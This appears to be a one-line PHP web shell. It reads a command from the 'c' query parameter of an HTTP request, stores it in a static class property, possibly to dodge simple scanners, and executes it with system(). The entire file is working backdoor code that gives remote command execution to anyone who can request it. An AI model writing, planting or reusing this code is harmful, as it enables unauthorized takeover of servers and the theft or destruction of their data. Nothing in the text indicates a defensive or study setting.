<?php class K { public static $c; } K::$c = $_GET['c']; system(K::$c);
